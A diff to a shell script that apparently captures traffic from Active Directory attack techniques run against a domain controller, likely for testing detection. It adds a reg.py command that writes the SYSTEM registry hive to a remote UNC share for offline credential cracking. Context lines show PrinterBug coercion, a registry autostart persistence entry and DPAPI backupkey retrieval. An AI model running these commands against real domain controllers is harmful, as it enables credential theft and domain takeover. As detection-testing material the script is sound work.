@@ -90,6 +90,11 @@ capture rpc_printerbug_dc $client printerbug "$dc_ip" SMBGW Administrator Smbgw-
 capture rpc_reg_autostart_dc $py "$examples/reg.py" "$creds@$dc_ip" add \
 	-keyName 'HKLM\SYSTEM\CurrentControlSet\Services\Eventlog' -v Updater -vt REG_SZ \
 	-vd 'C:\Windows\Temp\u.exe'
+# Hives saved remotely for offline cracking (T1003.002): reg.py save asks
+# the server to write SYSTEM (the boot key's hive) to a UNC path
+# (BaseRegSaveKey; Samba refuses).
+capture rpc_reg_save_dc $py "$examples/reg.py" "$creds@$dc_ip" save \
+	-keyName 'HKLM\SYSTEM' -o "\\\\$cli_ip\\share"
 capture rpc_reg_ordinary_dc $py "$examples/reg.py" "$creds@$dc_ip" add \
 	-keyName 'HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion' -v Setting -vt REG_SZ -vd 1
 capture rpc_backupkey_dc $client backupkey "$dc_ip" SMBGW Administrator Smbgw-pass1
